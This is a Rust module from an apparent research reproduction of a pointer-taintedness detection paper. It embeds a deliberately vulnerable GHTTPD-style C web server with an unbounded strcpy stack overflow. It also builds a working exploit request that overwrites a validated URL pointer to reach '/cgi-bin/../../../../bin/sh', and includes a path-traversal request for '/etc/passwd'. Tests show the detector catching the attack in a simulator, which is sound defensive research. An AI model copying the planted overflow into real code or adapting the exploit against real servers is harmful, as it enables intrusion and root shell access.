//! A GHTTPD-style web server with the *Log() stack buffer overflow*
//! (BID-5960), reproducing the paper's §5.1.2 experiment.
//!
//! The handler keeps a URL pointer and a 200-byte log buffer in the same
//! stack frame, with the pointer at the higher address. The HTTP security
//! policy (reject any URL containing `"/.."`) is checked *before* the
//! request line is copied into the log buffer with an unbounded `strcpy`.
//! A 204-byte request therefore overwrites the already-validated URL
//! pointer — the paper's **non-control-data** attack: the last four bytes
//! redirect it to a second, illegitimate URL
//! (`/cgi-bin/../../../../bin/sh`) smuggled later in the request, giving
//! the attacker an unrestricted root shell.
//!
//! Pointer-taintedness detection stops the attack at the first load-byte
//! through the corrupted (tainted) URL pointer, as the paper reports.

use ptaint_asm::Image;
use ptaint_os::{NetSession, WorldConfig};

/// The server. The request buffer is a global (GHTTPD's lives on the
/// stack; a global keeps the exploit's second-URL address computable from
/// the symbol table without changing the corrupted-pointer data flow).
pub const SOURCE: &str = r#"
char req[1024];

void reply(int s, char *msg) {
    send(s, msg, strlen(msg));
}

/* The vulnerable logging helper: unbounded copy into a 200-byte buffer
 * (GHTTPD's Log()). */
void log_request(char *logbuf, char *request) {
    strcpy(logbuf, request);
}

void serve_url(int s, char *url) {
    if (strncmp(url, "/cgi-bin/", 9) == 0) {
        reply(s, "200 OK EXEC ");
        reply(s, url);              /* dereferences the URL pointer */
        reply(s, "\r\n");
        return;
    }
    reply(s, "200 OK static ");
    reply(s, url);
    reply(s, "\r\n");
}

void handle(int s) {
    char *url;                      /* sits just above logbuf */
    char logbuf[200];
    int n;
    n = recv(s, req, 1020, 0);
    if (n <= 0) return;
    req[n] = 0;
    if (strncmp(req, "GET ", 4) != 0) {
        reply(s, "400 bad request\r\n");
        return;
    }
    url = req + 4;
    /* HTTP security policy: no escaping the document root. */
    if (strstr(url, "/..")) {
        reply(s, "403 forbidden\r\n");
        return;
    }
    log_request(logbuf, req);       /* overflow: corrupts url */
    serve_url(s, url);              /* dereferences the corrupted pointer */
}

int main() {
    int s;
    int c;
    s = socket();
    bind(s, 80);
    listen(s);
    c = accept(s);
    handle(c);
    close(c);
    return 0;
}
"#;

/// Builds the attack request:
///
/// ```text
/// [0..200)   "GET /cgi-bin/x" + 'A' filler      (passes the "/.." check)
/// [200..204) address of the second URL below     (overwrites `url`)
/// [204]      NUL                                 (ends the strcpy)
/// [208..)    "/cgi-bin/../../../../bin/sh\0"     (the illegitimate URL)
/// ```
#[must_use]
pub fn attack_request(image: &Image) -> Vec<u8> {
    let req_base = image.symbol("req").expect("ghttpd defines req");
    let mut request = b"GET /cgi-bin/x HTTP/1.0 ".to_vec();
    request.resize(200, b'A');
    request.extend_from_slice(&(req_base + 208).to_le_bytes());
    request.push(0); // terminate the strcpy right after the pointer
    request.resize(208, 0);
    request.extend_from_slice(b"/cgi-bin/../../../../bin/sh\0");
    request
}

/// The attack session.
#[must_use]
pub fn attack_world(image: &Image) -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![attack_request(image)]))
}

/// A benign session; also exercises the 403 policy path.
#[must_use]
pub fn benign_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![b"GET /index.html HTTP/1.0".to_vec()]))
}

/// A session whose URL violates the "/.." policy — rejected up front.
#[must_use]
pub fn policy_violation_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"GET /cgi-bin/../../etc/passwd HTTP/1.0".to_vec(),
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::run_app;
    use crate::build;
    use ptaint_cpu::{AlertKind, DetectionPolicy};
    use ptaint_isa::Instr;
    use ptaint_os::ExitReason;

    fn image() -> Image {
        build(SOURCE).unwrap()
    }

    #[test]
    fn attack_detected_at_load_byte_through_tainted_url_pointer() {
        let image = image();
        let out = run_app(
            &image,
            attack_world(&image),
            DetectionPolicy::PointerTaintedness,
        );
        let alert = out.reason.alert().expect("detected");
        assert_eq!(alert.kind, AlertKind::DataPointer);
        // The paper: "stops the attack when the tainted URL pointer is
        // dereferenced in a load-byte instruction (LB)".
        assert!(
            matches!(
                alert.instr,
                Instr::Load {
                    width: ptaint_isa::MemWidth::Byte,
                    ..
                }
            ),
            "{}",
            alert.instr
        );
        // The pointer is the smuggled second-URL address.
        let req_base = image.symbol("req").unwrap();
        assert_eq!(alert.pointer, req_base + 208);
    }

    #[test]
    fn attack_escapes_document_root_without_protection() {
        let image = image();
        let out = run_app(&image, attack_world(&image), DetectionPolicy::Off);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(
            transcript.contains("EXEC /cgi-bin/../../../../bin/sh"),
            "policy bypassed: {transcript}"
        );
    }

    #[test]
    fn benign_and_policy_paths_are_clean() {
        let image = image();
        let out = run_app(&image, benign_world(), DetectionPolicy::PointerTaintedness);
        assert_eq!(out.reason, ExitReason::Exited(0));
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(
            transcript.contains("200 OK static /index.html"),
            "{transcript}"
        );

        let out = run_app(
            &image,
            policy_violation_world(),
            DetectionPolicy::PointerTaintedness,
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(transcript.contains("403 forbidden"), "{transcript}");
    }
}
